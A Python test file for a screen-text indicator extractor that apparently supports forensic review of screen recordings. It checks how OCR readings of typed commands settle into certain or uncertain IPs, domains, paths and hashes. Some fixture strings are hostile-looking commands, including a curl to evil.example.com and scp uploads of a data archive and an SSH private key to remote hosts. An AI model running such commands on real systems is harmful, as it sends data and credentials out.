# SPDX-License-Identifier: GPL-3.0-or-later
"""Settled screen text: keystrokes are not values, frames vote, weak readings are uncertain.

Pure logic: readings are built by hand (text, scores, per-character times), no OCR runs.
"""

from __future__ import annotations

from dataclasses import replace

from desktop.ingest.screen_text import Reading, ScreenText, consensus, contested_positions, extends, similar

BOX_H = 26


def _reading(t: float, text: str, *, y: int = 100, x: int = 10, conf: float = 0.99,
             weak: dict[int, float] | None = None, column: int = 0, frame: int | None = None,
             times: list[float] | None = None, enhanced: str = "") -> Reading:
    scores = [conf] * len(text)
    for i, value in (weak or {}).items():
        scores[i] = value
    index = frame if frame is not None else round(t * 10)
    return Reading(t, index, (x, y, 12 * len(text), BOX_H), text, sum(scores) / len(scores), tuple(scores),
                   tuple(times) if times else None, column, enhanced)


def _values(screen: ScreenText, status: str | None = None) -> dict[tuple[str, str], float]:
    return {(o.found.type, o.found.value): o.time_s for o in screen.occurrences()
            if status is None or o.status == status}


def test_a_prefix_being_typed_is_never_an_indicator() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "$ ping 185.14"))
    screen.add(_reading(1.6, "$ ping 185.141.63.1"))
    screen.add(_reading(2.2, "$ ping 185.141.63.120"))
    screen.add(_reading(3.0, "$ cat /etc/host", y=130))
    screen.add(_reading(3.4, "$ cat /etc/hosts", y=130))
    found = _values(screen)
    assert ("ipv4", "185.141.63.120") in found
    assert ("ipv4", "185.141.63.1") not in found
    assert ("file_path", "/etc/hosts") in found
    assert ("file_path", "/etc/host") not in found


def test_a_value_that_was_run_then_edited_is_still_an_indicator() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "$ curl http://evil.example.com/a"))
    screen.add(_reading(1.5, '{"status":"ok"}', y=130))  # output below: the command ran
    screen.add(_reading(4.0, "$ curl http://evil.example.com/a.php"))  # recalled and edited
    found = _values(screen)
    assert ("url", "http://evil.example.com/a") in found
    assert ("url", "http://evil.example.com/a.php") in found


def test_a_typo_corrected_at_once_is_not_an_indicator() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "$ ssh root@45.142.212.16"))
    screen.add(_reading(1.4, "$ ssh root@45.142.212.61"))
    found = _values(screen)
    assert ("ipv4", "45.142.212.61") in found
    assert ("ipv4", "45.142.212.16") not in found


def test_first_seen_is_when_the_complete_value_was_visible() -> None:
    text = "$ scp data.zip root@45.142.212.61:/tmp/"
    start = text.index("45.")
    # each character appeared 0.1 s after the previous one, from t = 1.0
    times = [1.0 + 0.1 * i for i in range(len(text))]
    screen = ScreenText()
    screen.add(_reading(5.0, text, times=times))
    occ = next(o for o in screen.occurrences() if o.found.value == "45.142.212.61")
    assert abs(occ.time_s - times[start + len("45.142.212.61") - 1]) < 1e-6


def test_frames_vote_per_character_weighted_by_confidence() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "mail tips@protonma11.com", weak={20: 0.55, 21: 0.5}, frame=10))
    screen.add(_reading(2.0, "mail tips@protonmail.com", frame=20))
    screen.add(_reading(3.0, "mail tips@protonmail.com", frame=30))
    occ = next(o for o in screen.occurrences() if o.found.type == "email")
    assert occ.found.value == "tips@protonmail.com"
    assert occ.frames_agree == 2
    assert occ.reads == 3
    assert occ.status == "uncertain"  # another frame read a confusable variant: recorded, not hidden
    assert "tips@protonma11.com" in occ.alternatives


def test_two_agreeing_frames_make_a_certain_reading() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "relay mx2.mailpanel.ru", weak={12: 0.8}, frame=10))
    screen.add(_reading(2.0, "relay mx2.mailpanel.ru", weak={12: 0.85}, frame=20))
    occ = next(o for o in screen.occurrences() if o.found.type == "domain")
    assert occ.status == "certain"
    assert occ.frames_agree == 2


def test_one_weak_reading_of_a_confusable_character_is_uncertain() -> None:
    screen = ScreenText()
    text = "host f1-voter-registration.org"
    screen.add(_reading(1.0, text, weak={text.index("1"): 0.7}))
    occ = next(o for o in screen.occurrences() if o.found.type == "domain")
    assert occ.status == "uncertain"
    screen = ScreenText()
    screen.add(_reading(1.0, text))  # read confidently: certain
    assert next(o for o in screen.occurrences() if o.found.type == "domain").status == "certain"


def test_an_enhanced_reading_alone_is_labelled_enhanced() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "Address: 1O3.8l.25.54", conf=0.6))
    screen.add(_reading(1.0, "Address: 103.81.25.54", enhanced="contrast stretch"))
    occ = next(o for o in screen.occurrences() if o.found.value == "103.81.25.54")
    assert occ.status == "enhanced"
    assert occ.enhanced == "contrast stretch"


def test_windows_paths_differing_only_in_case_agree() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, r"PS> cd C:\Users\Operator\Desktop", frame=1))
    screen.add(_reading(2.0, r"PS> cd C:\users\Operator\Desktop", frame=2))
    paths = [o for o in screen.occurrences() if o.found.type == "file_path"]
    assert len(paths) == 1
    assert paths[0].frames_agree == 2


def test_lines_that_scroll_are_followed_and_not_taken_for_edits() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "64 bytes from 185.141.63.120", y=100))
    screen.add(_reading(1.0, "Connection to 103.75.190.12 closed.", y=126))
    screen.scroll(26, 1.3)  # one row up: the first line is now at y=74, the second at y=100
    screen.add(_reading(1.3, "logout 91.219.236.18", y=126))
    found = _values(screen)
    assert {("ipv4", "185.141.63.120"), ("ipv4", "103.75.190.12"), ("ipv4", "91.219.236.18")} <= set(found)


def test_a_value_wrapped_over_two_rows_is_joined() -> None:
    screen = ScreenText()
    screen.add(_reading(2.0, "inet xxxxxxxxxxxxxxxxxxxx 5.127.", x=10, y=100))
    screen.add(_reading(2.0, "174.0/24 scope", x=10, y=126))
    screen.add(_reading(2.5, "short line", x=10, y=152))
    found = _values(screen)
    assert ("cidr", "5.127.174.0/24") in found


def test_helpers() -> None:
    assert extends("$ ping 185.14", "$ ping 185.141.63.120")
    assert not extends("$ ping 185.141.63.120", "$ ping 185.141.63.12")
    assert similar("protonmail.com", "protonma1l.com")
    assert not similar("ping 185.141.63.120", "cat /etc/hosts")
    text, support = consensus([_reading(0, "ab1", weak={2: 0.4}), _reading(0, "abl"), _reading(0, "abl")])
    assert text == "abl"
    assert support[2] > 0.5


def test_a_line_still_being_typed_when_the_recording_ends_is_uncertain() -> None:
    screen = ScreenText()
    screen.add(_reading(28.0, "$ ssh root@194.207.219"))
    screen.add(_reading(29.5, "$ ssh root@194.207.219.16"))  # the next key press never came
    screen.add(_reading(29.7, "$ ssh root@194.207.219.16"))  # two frames: one is never enough for an IP
    screen.end_t = 30.0
    occ = next(o for o in screen.occurrences() if o.found.type == "ipv4")
    assert occ.status == "uncertain"
    screen.end_t = 60.0  # the same line long before the end: it settled
    assert next(o for o in screen.occurrences() if o.found.type == "ipv4").status == "certain"


def test_a_prefix_whose_line_was_lost_is_uncertain_once_the_value_shows_up_elsewhere() -> None:
    # the line being typed was redrawn lower (its track lost): "/etc/h" settled on a line of its own
    screen = ScreenText()
    screen.add(_reading(1.0, "$ cat /etc/h", y=100, frame=10))
    screen.add(_reading(1.1, "$ cat /etc/h", y=100, frame=11))
    screen.lost((0, 90, 800, 40), 1.5)
    # a slow typist: the rest appeared 6 s later
    screen.add(_reading(7.0, "$ cat /etc/hosts", y=400, frame=70))
    screen.add(_reading(7.1, "$ cat /etc/hosts", y=400, frame=71))
    statuses = {o.found.value: (o.status, o.doubt) for o in screen.occurrences()}
    assert statuses["/etc/hosts"][0] == "certain"
    status, doubt = statuses["/etc/h"]
    assert status == "uncertain"
    assert "/etc/hosts" in doubt


def test_a_value_ending_at_a_separator_of_a_longer_one_stays_certain() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "$ cd /var/log", y=100, frame=10))
    screen.add(_reading(1.1, "$ cd /var/log", y=100, frame=11))
    screen.add(_reading(3.0, "$ ls /var/log/nginx", y=130, frame=30))
    screen.add(_reading(3.1, "$ ls /var/log/nginx", y=130, frame=31))
    statuses = {o.found.value: o.status for o in screen.occurrences()}
    assert statuses["/var/log"] == "certain"
    assert statuses["/var/log/nginx"] == "certain"


def test_an_ip_prefix_of_another_ip_read_soon_after_is_uncertain() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "$ whois 194.207.219.16", y=100, frame=10))
    screen.add(_reading(1.1, "$ whois 194.207.219.16", y=100, frame=11))
    screen.lost((0, 90, 800, 40), 1.2)
    screen.add(_reading(6.5, "$ whois 194.207.219.163", y=160, frame=65))
    screen.add(_reading(6.6, "$ whois 194.207.219.163", y=160, frame=66))
    statuses = {o.found.value: o.status for o in screen.occurrences() if o.found.type == "ipv4"}
    assert statuses == {"194.207.219.163": "certain", "194.207.219.16": "uncertain"}


def test_a_thin_glyph_glued_before_a_value_read_elsewhere_is_uncertain() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "ping 62.53.41.24", y=100, frame=10))
    screen.add(_reading(1.1, "ping 62.53.41.24", y=100, frame=11))
    screen.add(_reading(5.0, "162.53.41.24 reachable", y=300, frame=50))  # the pointer's I-beam
    screen.add(_reading(5.1, "162.53.41.24 reachable", y=300, frame=51))
    statuses = {o.found.value: o.status for o in screen.occurrences() if o.found.type == "ipv4"}
    assert statuses == {"62.53.41.24": "certain", "162.53.41.24": "uncertain"}


def test_a_space_read_where_another_line_shows_an_underscore_makes_the_value_uncertain() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "$ chmod 600 ~/.ssh/id_rsa", y=100, frame=10))
    screen.add(_reading(1.1, "$ chmod 600 ~/.ssh/id_rsa", y=100, frame=11))
    screen.add(_reading(5.0, "$ scp ~/.ssh/id rsa root@host", y=130, frame=50))  # the underscore lost
    screen.add(_reading(5.1, "$ scp ~/.ssh/id rsa root@host", y=130, frame=51))
    statuses = {o.found.value: o.status for o in screen.occurrences() if o.found.type == "file_path"}
    assert statuses["~/.ssh/id_rsa"] == "certain"
    assert statuses["~/.ssh/id"] == "uncertain"


def test_a_state_of_a_typed_line_read_once_before_the_line_was_lost_is_uncertain() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "$ cp x /srv/data/d", frame=10))
    screen.add(_reading(1.1, "$ cp x /srv/data/d", frame=11))
    screen.add(_reading(1.4, "$ cp x /srv/data/dro", frame=14))  # one frame, then the line was lost
    screen.lost((0, 90, 800, 40), 1.5)
    statuses = {o.found.value: o.status for o in screen.occurrences() if o.found.type == "file_path"}
    assert statuses == {"/srv/data/dro": "uncertain"}


def _presented(screen: ScreenText) -> dict[tuple[str, str], float]:
    return {(o.found.type, o.found.value): o.time_s for o in screen.occurrences()
            if o.status in ("certain", "enhanced")}


def test_a_space_one_frame_read_for_an_underscore_is_outvoted_by_the_frames_before() -> None:
    # a small font: the last frame's box lost the underscore's row; two earlier frames, of the line
    # still being typed, showed it (one of them with ``l`` for ``1``, a confusable: no disagreement)
    screen = ScreenText()
    screen.add(_reading(1.0, "$ ssh -i ~/.ssh/id_rsa svc_backup@l4", frame=10))
    screen.add(_reading(2.0, "$ ssh -i ~/.ssh/id_rsa svc_backup@141.22", frame=20))
    screen.add(_reading(3.0, "$ ssh -i ~/.ssh/id rsa svc backup@141.22.1.7", frame=30))
    shown = _presented(screen)
    assert ("file_path", "~/.ssh/id") not in shown
    assert shown.get(("file_path", "~/.ssh/id_rsa")) == 1.0  # first seen in the first frame showing it


def test_a_separator_another_reading_saw_as_a_joiner_makes_the_value_uncertain() -> None:
    screen = ScreenText()
    screen.add(_reading(1.0, "host evil.com x1", frame=10))
    screen.add(_reading(2.0, "host evil.com-x1", weak={13: 0.6}, frame=20))
    occ = next(o for o in screen.occurrences() if o.found.value == "evil.com")
    assert occ.status == "uncertain"
    assert "'-' after it" in occ.doubt


def test_a_space_after_a_dot_before_a_value_may_be_a_gap_in_one_token() -> None:
    # the reader put a space into ``www.registration.me``: what follows the space is not the value
    screen = ScreenText()
    screen.add(_reading(1.0, '{"status": "queued", "relay" : "www. registration.me"}'))
    occ = next(o for o in screen.occurrences() if o.found.value == "registration.me")
    assert occ.status == "uncertain"
    assert "gap" in occ.doubt
    # a space after an ordinary word is no such doubt
    plain = ScreenText()
    plain.add(_reading(1.0, "relay registration.me ok"))
    assert ("domain", "registration.me") in _presented(plain)


def test_a_value_cut_by_the_edge_of_its_pane_is_uncertain() -> None:
    from dataclasses import replace

    def screen_for(edge: bool | None) -> ScreenText:
        text = r"PS C:\> iwr -OutFile C:\Users\kali\Temp\Civic-Q3"
        reading = replace(_reading(1.0, text), edge=edge)
        screen = ScreenText()
        screen.bounds = {0: (0, reading.box[0] + reading.box[2] + 2)}  # the line runs to the edge
        screen.add(reading)
        return screen

    value = ("file_path", r"C:\Users\kali\Temp\Civic-Q3")
    cut = next(o for o in screen_for(True).occurrences() if (o.found.type, o.found.value) == value)
    assert cut.status == "uncertain"
    assert "edge" in cut.doubt
    assert value not in _presented(screen_for(None))  # the box alone: it may be cut
    assert value in _presented(screen_for(False))  # the reader saw its last glyph end short of the edge


def test_a_value_wrapped_at_a_panes_margin_is_joined_and_a_shorter_row_is_not() -> None:
    # a terminal pane wraps at a character count, short of the pane's edge: two rows end at the
    # same place (the margin), and the range wrapped there is one value
    screen = ScreenText()
    screen.bounds = {0: (0, 440)}
    # each row read in two frames (a numeric value read in one frame only is never certain)
    for t in (1.0, 1.5):
        screen.add(_reading(t, "inet 194.87.181.177/24 brd 194.8", y=40))  # ends at 394, wrapped
        screen.add(_reading(t, "7.181.255 scope", y=66))
    for t in (2.0, 2.5):
        screen.add(_reading(t, "inet xxxxxxxxxxxxxxxxxxxx 77.136", y=100))  # ends at 394, wrapped
        screen.add(_reading(t, ".110.0/24 scope", y=126))
    screen.add(_reading(3.0, "$ wget -O /srv/data/mx.bin", y=160))  # ends 6 characters short
    screen.add(_reading(3.1, "Saving to: mx.bin", y=186))
    shown = _presented(screen)
    assert ("cidr", "77.136.110.0/24") in shown
    assert ("file_path", "/srv/data/mx.bin") in shown
    assert not any(v.startswith("/srv/data/mx.binSaving") for _, v in shown)


# -- never certain from weak evidence (issue 14: misreads presented as certain) --------------------


def _scored(t: float, text: str, scores: dict[int, tuple[float, float]], *, y: int = 100,
            frame: int | None = None, conf: float = 0.99, alt: float = 0.001) -> Reading:
    """A reading whose characters score ``conf`` with a class-mate at ``alt``, but ``scores``:
    index -> (score, the best confusable class-mate's probability)."""
    confs = [conf] * len(text)
    alts = [alt] * len(text)
    for i, (c, a) in scores.items():
        confs[i], alts[i] = c, a
    index = frame if frame is not None else round(t * 10)
    return Reading(t, index, (10, y, 12 * len(text), BOX_H), text, sum(confs) / len(confs), tuple(confs),
                   None, 0, "", None, tuple(alts))


def _status(screen: ScreenText, value: str) -> str:
    return next(o.status for o in screen.occurrences() if o.found.value == value)


def test_contested_positions_are_digits_among_letters_letters_among_digits_and_thin_glyphs_in_words() -> None:
    text = "cat /dev/nul1 payrol1.sh 192.l68.0.1 md5 lnvoice 10.0.0.1"
    got = set(contested_positions(text))
    assert text.index("1 payrol") in got  # nul1
    assert text.index("1.sh") in got  # payrol1
    assert text.index("l68") in got  # 192.l68
    assert text.index("5 lnv") in got  # md5
    assert text.index("lnvoice") in got  # a thin glyph in a word
    assert not any(p >= text.index("10.0.0.1") for p in contested_positions(text))  # digits of an IP
    # among letters only the thin `l`/`I` are in doubt (``lnvoice``); an `o`, an `s` are letters
    assert contested_positions("/var/log/sso") == [len("/var/")]


def test_a_digit_among_letters_that_every_frame_agrees_on_weakly_is_uncertain() -> None:
    # lightterm-unseen-901: three frames read "/dev/nul1", the `1` at 0.65 with `l` at 0.3 each time;
    # agreement of frames showing the same pixels is no evidence that `1` beat `l`
    text = "$ cmd >/dev/nul1 2>&1"
    screen = ScreenText()
    for k, t in enumerate((8.3, 9.0, 9.6)):
        screen.add(_scored(t, text, {15: (0.65 + 0.01 * k, 0.30)}))
    occ = next(o for o in screen.occurrences() if o.found.value == "/dev/nul1")
    assert occ.status == "uncertain"
    assert "'1'" in occ.doubt


def test_a_misread_extension_agreed_by_six_frames_is_uncertain() -> None:
    text = "$ sha256sum /mnt/usb/payrol1.sh"
    screen = ScreenText()
    for k in range(6):
        screen.add(_scored(12.3 + 0.5 * k, text, {text.index("1.sh"): (0.6 + 0.05 * k, 0.3)}))
    values = {o.found.value: o.status for o in screen.occurrences()}
    assert values.get("/mnt/usb/payrol1.sh", "uncertain") == "uncertain"
    assert values.get("payrol1.sh", "uncertain") == "uncertain"


def test_a_contested_glyph_without_the_recognisers_probabilities_needs_a_score_of_097() -> None:
    screen = ScreenText()
    for t in (1.0, 1.5, 2.0):  # no char_alt: the class-mate may have had all the rest (1 - 0.9)
        screen.add(_reading(t, "visit f1-voter.org now", weak={7: 0.9}))
    assert _status(screen, "f1-voter.org") == "uncertain"
    screen = ScreenText()
    for t in (1.0, 1.5):
        screen.add(_reading(t, "visit f1-voter.org now", weak={7: 0.98}))
    assert _status(screen, "f1-voter.org") == "certain"


def test_a_contested_glyph_chosen_clearly_stays_certain() -> None:
    # the right reading, well confirmed: `l`s scored 0.99 with `1` at 0.005, digits of a hash at 1.0
    screen = ScreenText()
    for t in (3.0, 3.5):
        screen.add(_scored(t, "$ sha256sum /mnt/usb/payroll.sh", {}, conf=0.995, alt=0.004))
        screen.add(_scored(t, "9d17308c096489d4e97a9d17308c0964  -", {}, y=130, conf=0.995, alt=0.004))
    values = {o.found.value: o.status for o in screen.occurrences()}
    assert values["/mnt/usb/payroll.sh"] == "certain"
    assert values["payroll.sh"] == "certain"
    assert values["9d17308c096489d4e97a9d17308c0964"] == "certain"
    # in a hash a `1` cannot be an `l`: only hex look-alikes (b/6, B/8) need the margin
    screen = ScreenText()
    for t in (3.0, 3.5):
        screen.add(_scored(t, "fd095913dd68bf985a4b3cb6ce4f7172", {2: (0.9, 0.08)}, conf=0.995, alt=0.0))
    assert _status(screen, "fd095913dd68bf985a4b3cb6ce4f7172") == "certain"
    screen = ScreenText()
    for t in (3.0, 3.5):
        screen.add(_scored(t, "fd095913dd68bf985a4b3cb6ce4f7172", {22: (0.9, 0.08)}, conf=0.995, alt=0.0))
    assert _status(screen, "fd095913dd68bf985a4b3cb6ce4f7172") == "uncertain"  # the `b` of `3cb6`


def test_an_ip_read_in_one_frame_only_is_uncertain_however_high_it_scored() -> None:
    # logtail-unseen-901: "109.13.241.174" for 109.113.241.174, one reading at 0.99
    screen = ScreenText()
    screen.add(_reading(25.0, "Dec 2 sshd: Failed password from 109.13.241.174 port 22", conf=0.995))
    occ = next(o for o in screen.occurrences() if o.found.type == "ipv4")
    assert occ.status == "uncertain"
    assert "one frame" in occ.doubt


def test_an_ip_read_alike_in_two_frames_or_typed_is_certain() -> None:
    screen = ScreenText()
    for t in (25.0, 25.4):
        screen.add(_reading(t, "Dec 2 sshd: Failed password from 109.113.241.174 port 22"))
    assert _status(screen, "109.113.241.174") == "certain"
    # typed: the prefixes read before show every character but the last key press
    screen = ScreenText()
    for k, t in enumerate((1.0, 1.2, 1.4, 1.6, 1.8)):
        screen.add(_reading(t, "$ ping 185.141.63.12"[: 16 + k]))
    assert _status(screen, "185.141.63.12") == "certain"


def test_a_number_wrapped_across_two_rows_is_certain_only_with_a_second_reading_of_both() -> None:
    # a pane wrapping at its margin (two rows end there, see the test above), read in one frame
    texts = [("inet 194.87.181.177/24 brd 194.8", 40), ("7.181.255 scope", 66),
             ("inet xxxxxxxxxxxxxxxxxxxx 77.136", 100), (".110.0/24 scope", 126)]
    screen = ScreenText()
    screen.bounds = {0: (0, 440)}
    for text, y in texts:
        screen.add(_reading(1.0, text, y=y))
    occ = next(o for o in screen.occurrences() if o.found.value == "77.136.110.0/24")
    assert occ.status == "uncertain"
    assert "one frame" in occ.doubt  # the doubt survives the join
    # each row read a second time, stretched: the joined value has two readings
    screen = ScreenText()
    screen.bounds = {0: (0, 440)}
    for text, y in texts:
        screen.add(_reading(1.0, text, y=y))
        screen.add(replace(_reading(1.0, text, y=y), variant="stretched 2x"))
    assert _status(screen, "77.136.110.0/24") == "certain"
